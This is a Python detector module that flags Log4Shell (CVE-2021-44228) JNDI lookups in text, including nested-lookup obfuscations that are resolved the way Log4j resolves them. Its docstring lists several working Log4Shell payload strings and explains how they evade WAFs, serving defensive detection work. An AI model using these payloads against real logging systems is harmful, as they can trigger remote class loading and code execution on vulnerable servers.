"""Log4Shell and JNDI lookups (CWE-917, CVE-2021-44228): ``${jndi:...}`` in any disguise.

What it catches
    A Log4j lookup that resolves to ``${jndi:<protocol>:...}`` after the text is decoded and
    case-folded and after the nested lookups that obfuscate it are resolved the way Log4j
    would resolve them: ``${lower:j}``, ``${upper:N}``, ``${::-d}``, ``${env:NOPE:-i}``,
    ``${date:'j'}``, ``${sys:x:-n}`` (innermost first, a bounded number of rounds). Also
    ``${jndi:`` split by ``${}``-free padding, and lookups that leak secrets into the DNS name
    of a JNDI URL.

Why
    Log4j 2 (< 2.15) evaluates lookups inside logged messages; ``jndi:ldap://`` loads and runs
    a remote class. Any value an application logs is enough. The obfuscations exist only to
    slip past WAF patterns that look for the literal ``${jndi:``.

Examples
    ``${jndi:ldap://x/a}``, ``${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://h/a}``,
    ``${${lower:jndi}:${lower:rmi}://h/poc}``, ``${j${loWer:Nd}i${uPper::}://h/p}``.

References
    CVE-2021-44228, CVE-2021-45046; CWE-917, CWE-502; Apache Log4j security page;
    PayloadsAllTheThings "CVE Exploits/Log4Shell".
"""

from __future__ import annotations

import re

from ..model import Match
from ._normalize import Views, hit, views

ID = "log4shell"
CWE = "CWE-917"

MAX_ROUNDS = 8
_INNER = re.compile(r"\$\{([^${}]{0,256})\}")
_JNDI = re.compile(
    r"\$\{\s?jndi\s?:|\bjndi\s?:\s?(?:ldaps?|rmi|dns|iiop|corba|nds|nis|http|https)\s?:"
)
# A lookup whose name is a lookup Log4j resolves but this module does not (``${base64:...}``,
# a custom one), in the place of ``jndi``, then a JNDI protocol and its URL.
_LOOKUP_NAMED_BY_LOOKUP = re.compile(
    r"\$\{\s?\$\{[^{}]{0,256}\}[^{}:]{0,16}:\s?(?:ldaps?|rmi|dns|iiop|corba|nds|nis|https?)"
    r"\s?:\s?/"
)
# Marks every shape above needs (substring tests in C); text without any is skipped.
NEEDLES = ("${", "jndi")


def _resolve(m: re.Match[str]) -> str:
    """A lookup's value as Log4j would print it, for the lookups used to hide letters."""
    body = m.group(1)
    if ":-" in body:
        return body.split(":-", 1)[1]
    name, sep, arg = body.partition(":")
    if sep and name in ("lower", "upper"):
        return arg
    if sep and name == "date":
        return arg.strip("'")
    if name == "jndi":
        return "\x01jndi:" + arg + "\x02"
    if not sep and body in ("", ":"):
        return body
    return "\x01" + body + "\x02"


def resolve(low: str) -> str:
    """Innermost lookups resolved, at most MAX_ROUNDS times; kept lookups marked with \\x01."""
    for _ in range(MAX_ROUNDS):
        if "${" not in low:
            break
        resolved = _INNER.sub(_resolve, low)
        if resolved == low:
            break
        low = resolved
    return low.replace("\x01", "${").replace("\x02", "}")


def detect_views(v: Views) -> Match | None:
    low = v.low
    if not (("$" in low and "${" in low) or "jndi" in low):  # any_in(low, NEEDLES), faster
        return None
    m = _JNDI.search(low)
    if m:
        return hit(v, m.start(), m.end(), "JNDI lookup")
    if "${" in low:
        resolved = resolve(low)
        m = _JNDI.search(resolved) or _LOOKUP_NAMED_BY_LOOKUP.search(resolved)
        if m:
            return hit(v, 0, min(len(v.raw), 16), "obfuscated JNDI lookup")
    return None


def detect(text: str) -> Match | None:
    """The first JNDI lookup in ``text``, or None."""
    return detect_views(views(text))
